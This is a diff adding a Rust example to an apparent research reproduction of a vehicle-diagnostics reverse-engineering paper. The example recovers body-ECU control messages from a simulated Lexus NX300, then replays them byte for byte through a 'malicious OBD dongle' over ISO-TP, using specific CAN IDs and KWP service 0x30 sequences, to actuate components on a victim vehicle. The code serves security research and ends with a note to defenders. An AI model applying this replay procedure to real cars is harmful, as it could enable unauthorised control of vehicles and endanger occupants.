@@ -1,0 +1,114 @@
+//! Replaying reverse-engineered control messages (paper §9.3, Tab. 13).
+//!
+//! ```text
+//! cargo run --release --example attack_replay
+//! ```
+//!
+//! The paper demonstrates that messages recovered by DP-Reverser can be
+//! injected to *control* a running vehicle (unlocking the Toyota's doors,
+//! driving the Lexus KOMBI). This example recovers the control records of
+//! Car D (Lexus NX300, one of the paper's §9.3 attack targets) from a
+//! tool session, then — acting as the attacker with only the recovered
+//! bytes — replays them at a *fresh* instance of the same vehicle model
+//! through a plain OBD dongle connection and verifies the components
+//! actually move.
+
+use dp_reverser::{DpReverser, PipelineConfig};
+use dpr_can::{CanBus, Micros};
+use dpr_cps::{collect_vehicle, CollectConfig};
+use dpr_frames::{EcrTarget, Scheme};
+use dpr_protocol::kwp::LocalId;
+use dpr_tool::{ToolProfile, ToolSession};
+use dpr_transport::isotp::IsoTpEndpoint;
+use dpr_transport::Endpoint;
+use dpr_vehicle::ecu::ComponentKey;
+use dpr_vehicle::profiles::{self, CarId};
+use dpr_vehicle::run_exchange;
+
+fn main() -> Result<(), Box<dyn std::error::Error>> {
+    let seed = 99;
+    println!("== Phase 1: reverse engineer a rented Lexus NX300 ==\n");
+    let car = profiles::build(CarId::D, seed);
+    let session = ToolSession::new(car, ToolProfile::autel_919());
+    let report = collect_vehicle(
+        session,
+        &CollectConfig {
+            read_wait: Micros::from_secs(2),
+            ..CollectConfig::default()
+        },
+    )?;
+    let pipeline = DpReverser::new(PipelineConfig::fast(Scheme::IsoTp, seed));
+
+    let result = pipeline.analyze(&report.log, &report.frames, Some(&report.execution));
+    println!("recovered {} control records:", result.ecrs.len());
+    for ecr in &result.ecrs {
+        println!(
+            "  {:?} state {:02X?} — {}",
+            ecr.target,
+            ecr.state,
+            ecr.label.as_deref().unwrap_or("?")
+        );
+    }
+
+    println!("\n== Phase 2: attack a fresh vehicle of the same model ==\n");
+    // The attacker knows only the recovered bytes. A fresh Car D instance
+    // (same model ⇒ same proprietary tables) stands in for the victim.
+    let victim = profiles::build(CarId::D, seed);
+    let mut bus = CanBus::new();
+    let dongle_node = bus.attach("malicious OBD dongle");
+    let mut victim = victim.attach(&mut bus);
+
+    // Replay each recovered procedure over a plain ISO-TP connection to
+    // the body-domain ECU (Car D's 0x30-service components live there).
+    let body_req = dpr_can::CanId::standard(0x711)?;
+    let body_rsp = dpr_can::CanId::standard(0x719)?;
+    let mut dongle = IsoTpEndpoint::new(body_req, body_rsp);
+
+    let mut successes = 0;
+    for ecr in &result.ecrs {
+        let EcrTarget::Local30(local_id) = ecr.target else {
+            continue;
+        };
+        // The recovered three-message procedure, byte for byte.
+        let mut adjust = vec![0x30, local_id, 0x03];
+        adjust.extend_from_slice(&ecr.state);
+        let messages = vec![
+            vec![0x30, local_id, 0x02],
+            adjust,
+            vec![0x30, local_id, 0x00],
+        ];
+        let mut all_positive = true;
+        for m in messages {
+            dongle.send(&m, bus.now())?;
+            run_exchange(&mut bus, dongle_node, &mut dongle, &mut victim)?;
+            match dongle.receive() {
+                Some(rsp) if rsp.first() == Some(&0x70) => {}
+                other => {
+                    all_positive = false;
+                    println!("  0x{local_id:02X}: rejected ({other:02X?})");
+                }
+            }
+        }
+        if all_positive {
+            let key = ComponentKey::KwpLocal(LocalId(local_id));
+            let moved = victim
+                .ecus()
+                .filter_map(|e| e.component(key))
+                .any(|c| c.was_adjusted());
+            println!(
+                "  0x{local_id:02X} ({}): injected — component {}",
+                ecr.label.as_deref().unwrap_or("?"),
+                if moved { "ACTUATED" } else { "did not move" }
+            );
+            if moved {
+                successes += 1;
+            }
+        }
+    }
+    println!(
+        "\n{successes}/{} recovered procedures actuated components on the victim vehicle",
+        result.ecrs.len()
+    );
+    println!("(defenders: this is why OBD ports need message filtering — §2.1)");
+    Ok(())
+}
